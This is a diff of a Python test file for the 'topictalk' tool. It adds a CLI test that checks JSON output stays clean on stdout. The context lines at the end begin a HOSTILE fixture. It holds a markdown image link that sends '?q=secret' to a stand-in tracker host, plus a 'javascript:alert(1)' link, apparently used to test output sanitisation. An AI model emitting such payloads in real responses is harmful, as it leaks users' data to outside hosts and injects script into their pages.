@@ -378,6 +378,23 @@ def test_demo_reuses_an_index_only_for_the_same_corpus():
     assert "keyword labels only" in _reusable({**small, "labels_pending": True}, "files: a.csv", None, "bundled")
 
 
+
+@pytest.mark.parametrize("pending", [True, False])
+def test_topics_of_a_demo_closed_before_its_labels_say_how_to_write_them_and_keep_stdout_clean(tmp_path, capsys,
+                                                                                                  pending):
+    import json
+
+    from topictalk.indexing import store
+    from topictalk.ui import cli
+
+    writer = store.begin(store.connect(store.Location(path=tmp_path)))
+    writer.write_topics([Topic(0, 2, "speech, audio", "keywords", ["speech", "audio"], embedding=np.ones(4, np.float32))])
+    writer.commit({"corpus": {"documents": 2}, **({"labels_pending": True} if pending else {})})
+    assert cli.main(["topics", "--index-dir", str(tmp_path), "--json"]) == 0
+    out, err = capsys.readouterr()
+    assert [t["label"] for t in json.loads(out)["topics"]] == ["speech, audio"]  # stdout: the JSON alone
+    assert ("keyword labels only" in err and "`topictalk demo` command again" in err) == pending
+
 # -- what model and document text may become in the page ----------------------------------------------
 HOSTILE = ('See ![chart](https://tracker.example/p.png?q=secret) and <img src="https://tracker.example/i.png"> '
            '[docs](https://example.org/a) [x](javascript:alert(1)) www.example.net ![r][ref]\n\n'
